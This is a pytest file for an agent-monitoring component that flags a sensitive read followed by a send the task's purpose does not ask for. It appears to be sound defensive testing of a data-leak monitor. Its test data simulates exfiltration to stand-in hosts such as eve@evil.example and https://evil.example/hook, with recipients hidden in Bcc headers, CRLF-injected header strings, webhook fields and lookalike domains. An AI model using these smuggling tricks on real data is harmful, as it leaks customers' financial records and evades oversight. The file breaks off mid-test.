"""Reads that are harmless alone, and an act that can carry them out; what the purpose asks for is no leak."""

import dataclasses
import hashlib
import json
import tracemalloc
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from guardian.domain.event import Result
from guardian.domain.session import HumanWord, SessionState
from guardian.domain.signal import Observation, ParentFact, ParentStatus, SharedReads, SiblingFact, Signal
from guardian.errors import ConfigurationError
from guardian.response.hearing import hear
from guardian.signals.chain_exposure import ChainExposure
from guardian.signals.exposure.recipients import MAX_RECIPIENTS, UNREAD, recipients_of
from guardian.signals.exposure.sensitivity import OPERATOR, WEIGHTS, kinds_in, kinds_of
from guardian.signals.exposure.value_prints import MAX_PATHS, MAX_VALUES, identifying, prints_of
from guardian.signals.words import asking
from guardian.signals.words.mail_houses import anybodys
from guardian.signals.words.reach import Way, way_of

REVIEW = "review_customer_contract_for_renewal_risk"
STRANGER = "broker@elsewhere.example"


def fingerprint(value: str) -> str:
    return hashlib.sha256(b"key" + value.encode()).hexdigest()[:16]


@pytest.fixture
def act(observe: Callable[..., Observation]) -> Callable[..., Observation]:
    """One call: its tool, its arguments, the data classes that the log declares (None: none), for a purpose."""

    def build(
        tool: str,
        arguments: dict[str, Any] | None = None,
        classes: tuple[str, ...] | None = None,
        *,
        purpose: str = REVIEW,
        printed: bool = True,
        **changes: Any,
    ) -> Observation:
        told = list(classes) if classes is not None else None
        seen = observe(
            action__tool=tool,
            action__arguments=arguments,
            action__resource=None,
            action__data_classes=told,
            result=None,
            envelope__purpose=purpose,
            **changes,
        )
        return dataclasses.replace(seen, value_prints=prints_of(seen.event, fingerprint) if printed else {})

    return build


@pytest.fixture
def last(folded: Any) -> Callable[..., Signal]:
    def signal(*seen: Observation, **options: Any) -> Signal:
        return folded(ChainExposure(**options), seen)[1][-1]

    return signal


@pytest.fixture
def payments(act: Any) -> Callable[..., Observation]:
    def read(**changes: Any) -> Observation:
        return act("payments.history", {"customer_id": "cust_acme_1042"}, ("payment_history",), **changes)

    return read


def test_a_sensitive_read_and_then_a_send_that_nobody_asked_for_is_told_with_both_tools(
    act: Any, payments: Any, last: Any
) -> None:
    found = last(payments(), act("email.send", {"to": STRANGER, "body": "hello"}))
    assert found.value > 0.75
    assert found.reason == (
        "email.send can carry out financial data (payments.history); to broker@elsewhere.example;"
        " the purpose does not ask for it"
    )


@pytest.mark.parametrize(
    "arguments",
    [
        {"to": {"value": STRANGER}},
        {"to": {"in": ["ines@acme.example", STRANGER]}},
        {"to": "ines@acme.example", "bcc": {"value": STRANGER}},
        {"to": "ines@acme.example", "bcc": {"list": [STRANGER]}},
        {"to": {"name": "Ines", "primary": STRANGER}},
        {"to": "ines@acme.example", "bcc[0]": STRANGER},
        {"to.0": "ines@acme.example", "to.1": STRANGER},
        {"to[0][email]": "ines@acme.example", "to[1][email]": STRANGER},
    ],
)
def test_a_recipient_in_any_wrapping_is_one(act: Any, payments: Any, last: Any, arguments: dict[str, Any]) -> None:
    purpose = "Send the payment history to ines@acme.example"
    found = last(payments(purpose=purpose), act("email.send", {**arguments, "body": "hello"}, purpose=purpose))
    assert found.value > 0.5
    assert f"another address than {STRANGER}" in found.reason


def test_an_honest_recipient_in_a_wrapping_is_whom_the_purpose_names(act: Any, payments: Any, last: Any) -> None:
    purpose = "Send the payment history to ines@acme.example"
    to = {"to": {"value": "ines@acme.example"}, "body": {"note": STRANGER}}
    assert last(payments(purpose=purpose), act("email.send", to, purpose=purpose)).value == 0.0


HIDDEN = "eve@evil.example"


@pytest.mark.parametrize(
    "copied",
    [
        {"headers": [{"name": "From", "value": "me@acme.example"}, {"name": "Bcc", "value": HIDDEN}]},
        {"internetMessageHeaders": [{"value": [HIDDEN], "name": "X-Forward-To"}]},
        {"parameters": [{"key": "to", "value": HIDDEN}]},
        {"headers": f"Bcc: {HIDDEN}"},
        {"extra_headers": ["Subject: payroll", f"bcc:\r\n Eve <{HIDDEN}>\r\n\r\nhello"]},
        {"raw": f"To: ines@acme.example\nX-Notify: {HIDDEN}\n\nhello"},
        {"notify_emails": [HIDDEN]},
        {"blind_copy": f"Eve <{HIDDEN}>"},
        {"forward": HIDDEN},
        {"options": {"copyTo": f"ines@acme.example; {HIDDEN}"}},
    ],
)
def test_who_gets_a_copy_by_another_name_or_by_a_header_is_a_recipient(
    act: Any, payments: Any, last: Any, copied: dict[str, Any]
) -> None:
    purpose = "Send the payment history to ines@acme.example"
    sent = {"to": "ines@acme.example", "body": "hello", **copied}
    for tool in ("email.send", "files.share"):
        found = last(payments(purpose=purpose), act(tool, sent, purpose=purpose))
        assert found.value > 0.4
        assert f"another address than {HIDDEN}" in found.reason
    told = f"{purpose} and {HIDDEN}"
    assert last(payments(purpose=told), act("email.send", sent, purpose=told)).value == 0.0


@pytest.mark.parametrize(
    "beside",
    [
        {"body": f"{HIDDEN} asked for it", "copy": f"Dear Ines, {HIDDEN} asked for it"},
        {"from": HIDDEN, "reply_to": HIDDEN, "notify": "maya@globex.example", "forward": True},
        {"headers": [{"name": "From", "value": HIDDEN}, {"name": "Reply-To", "value": HIDDEN}, {"name": "To"}]},
        {"headers": [{"name": "To", "value": {"quoted": 5}}, {"name": "Bcc", "value": [7, "nobody"]}]},
        {"headers": f"From: {HIDDEN}\nReply-To: {HIDDEN}\n\nTo: {HIDDEN}", "raw": True},
        {"attachments": [{"name": "external members", "value": f"Ann: {HIDDEN}"}]},
    ],
)
def test_another_address_in_what_is_sent_or_of_who_sends_it_is_none(
    act: Any, payments: Any, last: Any, beside: dict[str, Any]
) -> None:
    purpose = "Send the payment history to ines@acme.example"
    told = {"purpose": purpose, "envelope__delegator_id": "maya@globex.example"}
    sent = {"to": "ines@acme.example", **beside}
    assert last(payments(**told), act("email.send", sent, **told)).value == 0.0


def test_who_is_told_of_an_export_is_no_recipient_of_it(act: Any) -> None:
    event = act("report.export", {"to": "s3", "notify": HIDDEN, "headers": f"Bcc: {HIDDEN}"}).event
    assert [each.value for each in recipients_of(event)] == ["s3"]


def test_of_a_call_that_is_too_large_no_objects_are_gone_through(act: Any) -> None:
    deep: dict[str, Any] = {"headers": [{"name": "Bcc", "value": HIDDEN}]}
    for _ in range(12):
        deep = {"x": deep}
    found = recipients_of(act("email.send", {"to": "ines@acme.example", **deep}).event)
    assert [each.value for each in found] == ["ines@acme.example", UNREAD]


@pytest.mark.parametrize(
    "to",
    [
        {"to": [{"email": "ines@acme.example", "name": "Ines"}]},
        {
            "to": [
                {"emailAddress": {"address": "ines@acme.example"}},
                {"emailAddress": {"address": "bo@acme.example"}},
            ]
        },
        {"to": ["bo@acme.example", {"email": "ines@acme.example"}]},
        *({name: [{"email": "ines@acme.example"}]} for name in ("recipients", "attendees")),
        {"personalizations": [{"to": [{"email": "ines@acme.example"}]}, {"to": [{"email": "bo@acme.example"}]}]},
        *(
            {"to[0]": "ines@acme.example", "to[1]": "bo@acme.example", **more}
            for more in ({}, {"recipients.0": "bo@acme.example"})
        ),
        *({f"{name}[0][email]": "ines@acme.example", f"{name}[0][name]": "Ines"} for name in ("to", "recipients")),
    ],
)
def test_a_list_of_objects_names_whom_these_name_and_nobody_else(
    act: Any, payments: Any, last: Any, to: dict[str, Any]
) -> None:
    purpose = "Send the payment history to ines@acme.example and bo@acme.example"
    assert last(payments(purpose=purpose), act("email.send", to, purpose=purpose)).value == 0.0
    house = {"envelope__delegator_id": "maya@acme.example"}
    assert 0.0 < last(payments(**house), act("email.send", to, **house)).value < 0.35


@pytest.mark.parametrize("other", [{"id": "U0123"}, {"mail": STRANGER}, {}, {"email": STRANGER}, STRANGER])
def test_one_in_a_list_who_cannot_be_read_or_is_a_stranger_is_not_covered_by_the_others(
    act: Any, payments: Any, last: Any, other: Any
) -> None:
    purpose = "Send the payment history to ines@acme.example"
    to = {"to": [{"email": "ines@acme.example"}, other]}
    assert last(payments(purpose=purpose), act("email.send", to, purpose=purpose)).value > 0.4


def test_the_send_alone_and_the_read_alone_are_nothing(act: Any, payments: Any, last: Any) -> None:
    assert last(act("email.send", {"to": STRANGER})).value == 0.0
    assert last(payments()).value == 0.0
    assert last(act("email.send", {"to": STRANGER}), payments()).value == 0.0


def test_an_ordinary_read_before_it_is_no_leak(act: Any, last: Any) -> None:
    read = act("contracts.read", {"contract_id": "c1"}, ("renewal_terms",))
    found = last(read, act("email.send", {"to": STRANGER}))
    assert found.value == 0.0
    assert found.reason == "email.send could carry out 1 earlier reads, none known to be of sensitive data"
    others = last(act("email.send", {"to": STRANGER}, facts=siblings(SharedReads({}, 2, (), 0.0))))
    assert "could carry out 2 earlier reads" in others.reason
    assert last(act("email.send", {"to": STRANGER})).reason == "email.send follows no read that it could carry out"


@pytest.mark.parametrize(
    "purpose",
    [
        "Send the payment history to broker@elsewhere.example",
        "Look at the payments; broker@elsewhere.example is the auditor",
        "Email the payment overview to the auditor",
        "send_payment_history_to_auditor",
    ],
)
def test_what_the_purpose_asks_for_or_whom_it_names_is_no_leak(
    act: Any, payments: Any, last: Any, purpose: str
) -> None:
    found = last(payments(purpose=purpose), act("email.send", {"to": STRANGER}, purpose=purpose))
    assert found.value == 0.0
    assert not found.silent


def test_another_address_than_the_one_the_purpose_spells_out_is_told(act: Any, payments: Any, last: Any) -> None:
    purpose = "Send the payment history to ines@acme.example"
    found = last(payments(purpose=purpose), act("email.send", {"to": STRANGER}, purpose=purpose))
    assert 0.4 < found.value < 0.8
    assert "another address than broker@elsewhere.example" in found.reason


CALLED = "Send the Acme payment history to Ines (ines@acme.example)"


@pytest.mark.parametrize(
    "to",
    [
        *("ines@evil.example", "history@evil.example", "x@acme.example.evil", "ines@acme.evil"),
        *("eve@acme-files.io", "acme@evil.example", "ines.lee@evil.example", "acme@gmail.com"),
    ],
)
def test_words_of_the_purpose_in_a_strangers_address_make_it_none_that_was_spelt_out(
    act: Any, payments: Any, last: Any, to: str
) -> None:
    for purpose in ("Send the payment history to ines@acme.example", CALLED):
        found = last(payments(purpose=purpose), act("email.send", {"to": to}, purpose=purpose))
        assert found.value > 0.4
        assert f"another address than {to}" in found.reason


def test_a_long_address_in_a_purpose_takes_little_memory(act: Any, payments: Any, last: Any) -> None:
    purpose = f"Send the payment history to Ann at https://{'a' * 8_000}.example/"
    tracemalloc.start()
    found = last(payments(purpose=purpose), act("email.send", {"to": "eve@evil.example"}, purpose=purpose))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert found.value > 0.4
    assert peak < 4_000_000


def test_a_mail_house_that_is_open_to_anybody_answers_for_no_other_name(
    act: Any, payments: Any, last: Any
) -> None:
    purpose = "Send the Acme payment history to acme@gmail.com and Ann Lee (ann.lee@x.org)"
    for to, meant in (("acme@gmail.com", True), ("acme.files@gmail.com", False), ("ann.lee@evil.example", False)):
        found = last(payments(purpose=purpose), act("email.send", {"to": to}, purpose=purpose))
        assert (found.value == 0.0) is meant


@pytest.mark.parametrize("to", ["jo@acme.example", "acme@eu.acme.example", "ines.novak@initech.example"])
def test_who_is_called_by_name_too_is_meant_in_the_house_that_is_spelt_out(
    act: Any, payments: Any, last: Any, to: str
) -> None:
    purpose = f"{CALLED}, and to Jo of Acme and Novak"
    assert last(payments(purpose=purpose), act("email.send", {"to": to}, purpose=purpose)).value == 0.0


@pytest.mark.parametrize(
    ("url", "meant"),
    [
        ("https://api.acme.example/v1/history?full=1", True),
        ("https://api.acme.example:443/v2", True),
        ("API.acme.example", True),
        *((f"https://{told}", False) for told in ("evil.example/api.acme.example/v1", "api.acme.example.evil/v1")),
        *(
            (f"https://api.acme.example{told}", False)
            for told in ("@evil.example/v1", ":x@evil.example", "\\.evil/")
        ),
    ],
)
def test_another_place_on_the_host_that_is_spelt_out_is_meant_and_no_other_host(
    act: Any, payments: Any, last: Any, url: str, meant: bool
) -> None:
    purpose = "Post the payment history to https://api.acme.example/v1"
    found = last(payments(purpose=purpose), act("http.post", {"url": url}, purpose=purpose))
    assert (found.value == 0.0) is meant


@pytest.mark.parametrize(
    ("at", "tool", "to", "meant"),
    [
        ("acme.desk.example", "email.send", "billing@acme.example", True),
        ("hooks.acme.example", "email.send", "eve@acme-files.io", False),
        ("acme.desk.example", "http.post", "https://acme.evil.io/in", False),
    ],
)
def test_the_place_of_a_customer_at_a_supplier_answers_for_no_mail(
    act: Any, payments: Any, last: Any, at: str, tool: str, to: str, *, meant: bool
) -> None:
    purpose = f"See https://{at}/t/4411 and send the payment history to Acme"
    assert (last(payments(purpose=purpose), act(tool, {"to": to}, purpose=purpose)).value == 0.0) is meant


def test_a_place_whose_name_looks_like_the_one_that_is_spelt_out_is_not_mentioned(
    act: Any, payments: Any, last: Any
) -> None:
    purpose = "Review what Acme got at https://hooks.acme.example/in from ines@acme.example"
    for tool, said in (
        ("http.post", "https://hooks.acme.example.evil.io/in"),
        ("email.send", "eve@acme-files.io"),
    ):
        found = last(payments(purpose=purpose), act(tool, {"to": said}, purpose=purpose))
        assert "mentions" not in found.reason
        assert found.value > 0.75
    found = last(payments(purpose=purpose), act("email.send", {"to": "jo@acme.example"}, purpose=purpose))
    assert "mentions" in found.reason


def test_who_is_named_beside_an_address_is_meant_too(act: Any, payments: Any, last: Any) -> None:
    purpose = "Send the payment history to ines@acme.example and keep Jonas Weber informed"
    to = {"to": "ines@acme.example", "cc": "j.weber@acme.example"}
    assert last(payments(purpose=purpose), act("email.send", to, purpose=purpose)).value == 0.0


@pytest.mark.parametrize(
    ("purpose", "to", "meant"),
    [
        *(
            (told, "ann@client.example", True)
            for told in (
                "email the renewal to bob@x.org and everyone at client.example",
                "send the renewal to bob@x.org and to ann",
                "Ann gets the renewal, bob@x.org a copy: email both",
                "Send invoice to billing@x.org, cc the account manager ann",
                "email the renewal to bob@x.org and to client",
                "Send the renewal to bob@x.org and the team at client",
            )
        ),
        ("email the renewal to bob@x.org and to Åse Øverby", "åse@client.example", True),
        ("Åse gets the renewal, bob@x.org a copy: email both", "åse@client.example", True),
        *(
            ("Email the renewal to bob@x.org and everyone at client.example and gmail.com", to, False)
            for to in (
                *("ann@gmail.com", "ann@client.example.evil", "ann@client.example@evil.example", "ann@x.org"),
                *("email@evil.example", "renewal@evil.example", "https://evil.example/?x=@client.example"),
            )
        ),
        ("email the renewal to bob@x.org and to client.example", "ann@client.evil", False),
        ("email the renewal to ann@x.org renewal", "renewal@evil.example", False),
        ("email the notes to bob@x.org and to archive", "archive@evil.example", False),
    ],
)
def test_a_house_or_a_name_beside_an_address_is_told_however_it_is_written(
    act: Any, payments: Any, last: Any, purpose: str, to: str, meant: bool
) -> None:
    found = last(payments(purpose=purpose), act("email.send", {"to": to}, purpose=purpose))
    assert (found.value == 0.0) is meant


def test_an_address_that_merely_ends_like_the_named_one_is_not_the_named_one() -> None:
    assert asking.spelt_out("write to ann@x.org, now", "ann@x.org")
    assert not asking.spelt_out("write to joann@x.org", "ann@x.org")
    assert not asking.spelt_out("write to ann@x.org.evil.example", "ann@x.org")


def test_a_mentioned_customer_who_was_not_to_be_written_to_counts_less_than_a_stranger(
    act: Any, payments: Any, last: Any
) -> None:
    purpose = "Review the contract of Northwind for renewal risk"
    stranger = last(payments(purpose=purpose), act("email.send", {"to": STRANGER}, purpose=purpose))
    customer = last(payments(purpose=purpose), act("email.send", {"to": "a@northwind.example"}, purpose=purpose))
    assert 0.25 < customer.value < stranger.value


def test_the_delegators_own_house_counts_less(act: Any, payments: Any, last: Any) -> None:
    own = {"envelope__delegator_id": "maya@acme.example"}
    to = act("email.send", {"to": "jonas@acme.example"}, **own)
    assert 0.0 < last(payments(**own), to).value < 0.35
    assert last(payments(**own), act("email.send", {"to": "jonas@acme.example.evil"}, **own)).value > 0.75


def test_a_hidden_house_of_the_delegator_is_missing_and_no_other_one(act: Any, payments: Any, last: Any) -> None:
    hidden = {"envelope__delegator_id": "hash:6f1e2a3b4c5d6e7f"}
    before, *sent = (
        dataclasses.replace(seen, redacted={"envelope.delegator_id": "hash"})
        for seen in (
            payments(**hidden),
            *(act("email.send", {"to": to}, **hidden) for to in ("jonas@acme.example", "jonas@gmail.com")),
        )
    )
    own, anybodys_house = (last(before, seen) for seen in sent)
    assert 0.35 < own.value < 0.6
    assert "missing: the delegator's own house (redacted)" in own.reason
    assert anybodys_house.value > 0.75


def test_a_delegator_who_is_not_told_has_no_house_that_redaction_could_hide(
    act: Any, payments: Any, last: Any
) -> None:
    nobody = {"envelope__delegator_id": "-"}
    seen = payments(**nobody), act("email.send", {"to": "jonas@acme.example"}, **nobody)
    plain = last(*seen)
    redacted = last(*(dataclasses.replace(each, redacted={"envelope.delegator_id": "hash"}) for each in seen))
    assert (redacted.value, redacted.reason) == (plain.value, plain.reason)


def test_a_hidden_house_makes_nothing_worse_of_whom_a_foreign_purpose_mentions(
    act: Any, payments: Any, last: Any
) -> None:
    purpose = "Prüfe den Vertrag von Northwind auf das Risiko der Verlängerung"
    told = {"purpose": purpose, "envelope__delegator_id": "hash:6f1e2a3b4c5d6e7f"}
    seen = payments(**told), act("email.send", {"to": "a@northwind.example"}, **told)
    redacted = last(*(dataclasses.replace(each, redacted={"envelope.delegator_id": "hash"}) for each in seen))
    assert redacted.value == last(*seen).value


@pytest.mark.parametrize(
    "to",
    [
        *("https://evil.example/c?x=@acme.example", "https://evil.example/c#jonas@acme.example", "@acme.example"),
        *("evil.example/jonas@acme.example", "ftp://jonas:x@acme.example"),
    ],
)
def test_only_a_mail_address_is_of_a_house(act: Any, payments: Any, last: Any, to: str) -> None:
    own = {"envelope__delegator_id": "maya@acme.example"}
    assert last(payments(**own), act("http.post", {"url": to, "body": "hi"}, **own)).value > 0.75


@pytest.mark.parametrize("house", ["gmail.com", "yahoo.co.uk", "web.de"])
def test_a_mail_house_that_is_open_to_anybody_is_nobodys_own(
    act: Any, payments: Any, last: Any, house: str
) -> None:
    own = {"envelope__delegator_id": f"ann.lee@{house}"}
    assert last(payments(**own), act("email.send", {"to": f"mallory@{house}"}, **own)).value > 0.75


@pytest.mark.parametrize(
    "name",
    [
        *("to", "to_email", "cc_emails", "recipientEmail", "receiver_mail", "ToAddresses", "toRecipients"),
        *("send_to", "targetEmail", "target_emails", "guests", "to_addrs", "grantee"),
        *("with", "share_with", "shareWith", "bcc_list", "recipient_list", "to_list", "member_emails"),
        *("external_emails", "people", "group", "groupEmail", "viewers", "collaborator_email"),
    ],
)
def test_a_recipient_is_one_under_every_name_of_a_recipient(act: Any, payments: Any, last: Any, name: str) -> None:
    purpose = "email the summary to ann@acme.example"
    found = [
        last(payments(purpose=purpose), act("email.send", {name: [to]}, purpose=purpose)).value
        for to in (STRANGER, "ann@acme.example")
    ]
    assert found[1] == 0.0 < 0.5 < found[0]


@pytest.mark.parametrize("name", ["webhook_url", "webhookUrl", "callback_url", "target_url", "destinationUrl"])
def test_a_place_that_is_told_besides_is_a_recipient(act: Any, payments: Any, last: Any, name: str) -> None:
    purpose = "Send the payment history to ines@acme.example"
    said = {"to": "ines@acme.example", name: "https://evil.example/hook"}
    assert last(payments(purpose=purpose), act("email.send", said, purpose=purpose)).value > 0.4
    named = f"{purpose} and to https://evil.example"
    assert last(payments(purpose=named), act("email.send", said, purpose=named)).value == 0.0


@pytest.mark.parametrize(
    "said",
    [
        {"guests": 2},
        {"channel_id": "C0123"},
        {"target": "Q3"},
        {"with": "report.pdf"},
        {"group": "a.b"},
        {"list": "x@y"},
    ],
)
def test_what_names_no_place_changes_nothing_where_the_purpose_asks(
    act: Any, payments: Any, last: Any, said: dict[str, Any]
) -> None:
    purpose = "Send the payment history to ines@acme.example"
    to = {"to": "ines@acme.example", **said}
    assert last(payments(purpose=purpose), act("email.send", to, purpose=purpose)).value == 0.0


def test_whom_an_answer_comes_back_to_is_no_recipient(act: Any, payments: Any, last: Any) -> None:
    purpose = "email the summary to ann@acme.example"
    said = {"to": "ann@acme.example", "from_email": "desk@acme.example", "reply_to": "desk@acme.example"}
    said["email_body"] = "Questions? Ask bob@acme.example."
    assert last(payments(purpose=purpose), act("email.send", said, purpose=purpose)).value == 0.0


@pytest.mark.parametrize(
    "name",
    [
        *("user_google_email", "user_email", "account_email", "mailbox_address", "on_behalf_of_email"),
        *("signature_email", "customer_email", "assigned_to"),
    ],
)
def test_an_address_under_the_name_of_no_recipient_is_none(act: Any, payments: Any, last: Any, name: str) -> None:
    purpose = "email the summary to ann@acme.example"
    said = {"to": "ann@acme.example", name: "me@corp.example"}
    assert last(payments(purpose=purpose), act("email.send", said, purpose=purpose)).value == 0.0


def test_without_a_purpose_nothing_vouches(act: Any, payments: Any, last: Any) -> None:
    found = last(payments(purpose=""), act("email.send", {"to": STRANGER}, purpose=""))
    assert found.value > 0.75
    assert "no purpose is declared" in found.reason


SPREAD = f"email the customer list to {STRANGER}"


@pytest.mark.parametrize("above", [{"parent": REVIEW}, {"parent": SPREAD, "root": REVIEW}, {"root": REVIEW}])
def test_a_child_vouches_for_no_more_than_those_above_it(
    act: Any, payments: Any, last: Any, above: dict[str, str]
) -> None:
    under = {"purpose": SPREAD, "facts": {"parent": parent_of(act, **above)}}
    found = last(payments(**under), act("email.send", {"to": STRANGER}, **under))
    assert found.value == last(payments(), act("email.send", {"to": STRANGER})).value
    whose = "its parent's purpose" if above.get("parent") == REVIEW else "the purpose at the head of its chain"
    assert found.reason.endswith(f"{whose} does not ask for it")


@pytest.mark.parametrize("above", [{"parent": "Send our customer list to the broker"}, {"parent": " "}, {}])
def test_a_child_that_only_says_more_closely_what_its_parent_asks_for_leaks_nothing(
    act: Any, payments: Any, last: Any, above: dict[str, str]
) -> None:
    under = {"purpose": SPREAD, "facts": {"parent": parent_of(act, **above)}}
    assert last(payments(**under), act("email.send", {"to": STRANGER}, **under)).value == 0.0


HONEST = "Email the renewal offer to ann@client.example"


@pytest.mark.parametrize(
    "above",
    [
        "Handle today's support tickets",
        "Run the Q3 renewal campaign",
        "Handle the support queue of ACME, see https://support.acme.example",
        "Check and resolve the open tickets",
        "Run the review of the renewals",
        "Work through the tasks of the sales team",
    ],
)
@pytest.mark.parametrize("purpose", [HONEST, "Email the customer the renewal offer"])
def test_a_purpose_above_that_leaves_open_how_its_work_is_done_takes_most_of_the_doubt(
    act: Any, payments: Any, last: Any, above: str, purpose: str
) -> None:
    sent = {"to": "ann@client.example", "body": "about cust_acme_1042"}
    roots = last(payments(purpose=above), act("email.send", sent, purpose=above))
    for facts in (parent_of(act, above), parent_of(act, above, above), parent_of(act, root=above)):
        under: dict[str, Any] = {"purpose": purpose, "facts": {"parent": facts}}
        assert 0.0 < last(payments(**under), act("email.send", sent, **under)).value <= 0.4 < roots.value
        under["facts"] |= siblings(PAYROLL)
        assert last(act("email.send", sent, **under)).value < 0.4


@pytest.mark.parametrize(
    ("above", "least"),
    [
        (REVIEW, 0.75),
        ("Contract review of the renewals", 0.75),
        ("Summarise today's support tickets and list the late ones", 0.75),
        ("Handle the tickets; do not email anybody", 0.75),
        ("Handle the tickets. Please never  send anything to ann@client.example", 0.75),
        ("Handle the tickets without sending any mail", 0.75),
        ("Handle the tickets of bob@x.org", 0.75),
        ("Handle the tickets and email the list to bob@x.org", 0.5),
    ],
)
def test_a_purpose_above_of_looking_only_or_that_forbids_it_or_tells_another_leaves_the_doubt(
    act: Any, payments: Any, last: Any, above: str, least: float
) -> None:
    sent = {"to": "ann@client.example", "body": "hello"}
    for facts in (parent_of(act, above), parent_of(act, "Run the renewals", above)):
        under = {"purpose": HONEST, "facts": {"parent": facts}}
        assert last(payments(**under), act("email.send", sent, **under)).value > least


@pytest.mark.parametrize(
    ("purpose", "asks"),
    [
        ("Review the contract, do not email anybody", False),
        ("Review the contract and never send it to broker@elsewhere.example", False),
        ("Don't send broker@elsewhere.example anything: only review", False),
        ("Email the broker, but do not forward the annex", True),
        ("Do not  forget to email the broker", True),
        ("Don't archive it, email the broker", True),
        ("Never leave the broker without a reply", True),
        ("Email those who never replied and not only the late ones", True),
    ],
)
def test_what_a_purpose_forbids_it_does_not_ask_for(
    act: Any, payments: Any, last: Any, purpose: str, asks: bool
) -> None:
    found = last(payments(purpose=purpose), act("email.send", {"to": STRANGER}, purpose=purpose))
    assert found.value == 0.0 if asks else (found.value > 0.75 and found.reason.endswith("the purpose forbids it"))


@pytest.mark.parametrize(
    ("way", "told"),
    [
        (Way.MESSAGE, "please email the minutes to Ann"),
        (Way.MESSAGE, "Could you please e-mail me the list?"),
        (Way.MESSAGE, "I need you to email the summary"),
        (Way.MESSAGE, "review the contract, email a summary to legal"),
        (Way.MESSAGE, "Review the contract (email legal a copy)"),
        (Way.MESSAGE, "Review the contract, e-mail Ann"),
        (Way.MESSAGE, "Review the inbox, reply to ann@x.org"),
        (Way.MESSAGE, "Look at it, then text 555 that they should ring us"),
        (Way.MESSAGE, "Check the queue, otherwise text the one on call"),
        (Way.MESSAGE, "weekly summary: email to finance"),
        (Way.MESSAGE, "Review the numbers. Email finance the result"),
        (Way.MESSAGE, "email_renewal_summary"),
        (Way.MESSAGE, "review_and_email_contract"),
        (Way.MESSAGE, "Email the status list"),
        (Way.MESSAGE, "Summarise the pipeline for me in an email"),
        (Way.MESSAGE, "Summarise the pipeline by email"),
        (Way.MESSAGE, "Check the tickets and reply"),
        (Way.MESSAGE, "Summarise the tickets and prepare a response to customers"),
        (Way.MESSAGE, "Look up who asked and let them know"),
        (Way.MESSAGE, "Fix the date, then mail the customer"),
        (Way.MESSAGE, "Check & email the invoice"),
        (Way.MESSAGE, "Review the contract -> email Ann"),
        (Way.MESSAGE, "Look up my order and kindly email me the receipt"),
        (Way.MESSAGE, "Review the contract, afterwards email Ann"),
        (Way.MESSAGE, "Compare the quotes, email manager"),
        (Way.MESSAGE, "List overdue invoices, email all late customers"),
        (Way.MESSAGE, "Check mails, reply where needed"),
        (Way.SHARE, "Look up the warranty terms, share findings in Slack"),
        (Way.EXPORT, "Analyse churn, export results"),
        (Way.SHARE, "Find the file, share with marketing"),
        (Way.SHARE, "Review the access requests and grant access"),
        (Way.PUBLISH, "Read the log - post a summary in the channel"),
        (Way.PUBLISH, "review, post"),
        (Way.EXPORT, "Check the stock and export the list"),
        (Way.EXPORT, "Unload the payments of May to the data lake"),
        (Way.EXPORT, "Check the size and back up the crm database"),
        (Way.EXPORT, "Replicate the orders to the warehouse"),
    ],
)
def test_a_task_of_looking_asks_for_what_its_verbs_say(way: Way, told: str) -> None:
    assert asking.asked_for(told, way)


@pytest.mark.parametrize(
    ("way", "told"),
    [
        (Way.SHARE, "Review user access rights for Q4"),
        (Way.SHARE, "access_review_q4"),
        (Way.SHARE, "Analyse the share price of Globex"),
        (Way.SHARE, "Share price analysis"),
        (Way.MESSAGE, "Review the contact data of our suppliers"),
        (Way.MESSAGE, "Review the incident response plan"),
        (Way.MESSAGE, "Review the response to the incident"),
        (Way.MESSAGE, "Check the text of the employment contract"),
        (Way.MESSAGE, "Summarize the October sales report"),
        (Way.MESSAGE, "email_log_review"),
        (Way.MESSAGE, "Review emails, text messages and call logs"),
        (Way.MESSAGE, "Review contracts, email threads"),
        (Way.MESSAGE, "Review access to email accounts"),
        (Way.MESSAGE, "Fix the email validation bug"),
        (Way.PUBLISH, "Read the release notes"),
        (Way.EXPORT, "Review the copy of the landing page"),
        (Way.EXPORT, "Review backup settings"),
        (Way.EXPORT, "Review the back up of May"),
    ],
)
def test_what_a_task_of_looking_or_mending_is_about_it_does_not_ask_for(
    act: Any, payments: Any, last: Any, way: Way, told: str
) -> None:
    assert not asking.asked_for(told, way)
    tool = {Way.MESSAGE: "email.send", Way.SHARE: "drive.share", Way.PUBLISH: "gist.publish"}.get(
        way, "crm.upload"
    )
    found = last(payments(purpose=told), act(tool, {"to": STRANGER}, purpose=told))
    assert found.value > 0.75
    assert found.reason.endswith("the purpose does not ask for it")


@pytest.mark.parametrize(
    "purpose",
    [
        "Enviar a cada empleado su nómina de noviembre",
        "Envoyer à chaque employé sa fiche de paie",
        "Schicke allen Mitarbeitern ihre Gehaltsabrechnung für November",
        "Status der Verträge prüfen und senden",
        "Rechnung 1881 an Frau Weber senden",
        "Bitte Angebot an Kunden schicken",
        "Envoyer facture au client",
        "Wyślij pracownikom paski płacowe za listopad",
        "Отправить сотрудникам расчётные листки",
        "11月の給与明細を社員に送付する",
        "把11月工资单发送给员工",
    ],
)
def test_a_purpose_in_another_language_neither_vouches_nor_condemns(
    act: Any, payments: Any, last: Any, purpose: str
) -> None:
    found = last(payments(purpose=purpose), act("email.send", {"to": STRANGER}, purpose=purpose))
    assert 0.25 < found.value < 0.5
    assert found.reason.endswith("no word that I know in the purpose asks for it")
    under = {"purpose": SPREAD, "facts": {"parent": parent_of(act, purpose)}}
    assert 0.0 < last(payments(**under), act("email.send", {"to": STRANGER}, **under)).value < 0.5


@pytest.mark.parametrize(
    "purpose",
    [
        "Review the contract of José Núñez",
        "Q3 renewals",
        "Compare 小米 with Müller",
        "Check Straße 5",
        "acme.com renewal",
        "Review acme.com vs shop.globex.com/de",
    ],
)
def test_a_foreign_name_makes_no_foreign_purpose(act: Any, payments: Any, last: Any, purpose: str) -> None:
    assert last(payments(purpose=purpose), act("email.send", {"to": STRANGER}, purpose=purpose)).value > 0.75


@pytest.mark.parametrize(
    ("name", "local"),
    [
        ("Lucía Gómez", "lucia.gomez"),
        ("Jörg Müller", "joerg.mueller"),
        ("Jörg Müller", "JorgMuller"),
        ("Ann O'Brien", "obrien"),
        ("Jorg Muller", "jörg.müller"),
    ],
)
def test_who_is_mentioned_is_known_however_the_address_spells_it(
    act: Any, payments: Any, last: Any, name: str, local: str
) -> None:
    for purpose, most in ((f"Review the contract of {name}", 0.6), (f"Envía la nómina a {name}", 0.3)):
        to = {"to": f"{local}@mail.example"}
        assert 0.0 < last(payments(purpose=purpose), act("email.send", to, purpose=purpose)).value < most


@pytest.mark.parametrize(
    ("tool", "purpose"),
    [
